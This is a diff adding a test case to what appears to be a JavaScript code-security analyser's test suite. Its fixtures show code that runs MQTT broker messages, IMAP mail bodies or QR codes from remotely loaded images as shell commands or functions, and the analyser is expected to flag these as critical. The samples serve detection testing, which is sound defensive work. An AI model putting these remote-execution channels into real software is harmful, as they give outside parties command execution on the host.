@@ -797,3 +797,16 @@ test('bad: what functions are given to call gets what these call it with', () =>
   ]) assert.equal(worst(`${ask}; ${code}`), 'critical', code);
   for (const code of ['ask(u, (t) => console.log(t)); cp.exec("sync")', 'const each = (done) => done("sync"); each((t) => cp.exec(t)); ask(u, () => {})']) assert.equal(worst(`${ask}; ${code}`), 'nothing', code);
 });
+
+test('messages of a broker or a mailbox run, and what a picture says that is loaded from an address', () => {
+  for (const code of [
+    'const mqtt = require("mqtt"); const c = mqtt.connect("mqtt://broker.example"); c.on("message", (topic, m) => require("child_process").exec(m.toString()))',
+    'const { ImapFlow } = require("imapflow"); const c = new ImapFlow({ host: "imap.example" }); const m = await c.fetchOne("*", { source: true }); require("child_process").exec(m.source.toString())',
+    'const jsQR = require("jsqr"), { Jimp } = require("jimp"); const i = await Jimp.read("https://res.example/a.jpg"); Function(jsQR(i.bitmap.data).data)()',
+  ]) assert.equal(worst(code), 'critical', code);
+  for (const code of [
+    'const mqtt = require("mqtt"); const c = mqtt.connect("mqtt://broker.example"); c.on("message", (topic, m) => show(m)); require("child_process").exec("sync")',
+    'const { Jimp } = require("jimp"); const i = await Jimp.read("a.jpg"); Function(i.text)()',
+    'const { get } = require("./registry"); Function(get("https://schema.example/a"))()',
+  ]) assert.notEqual(worst(code), 'critical', code);
+});
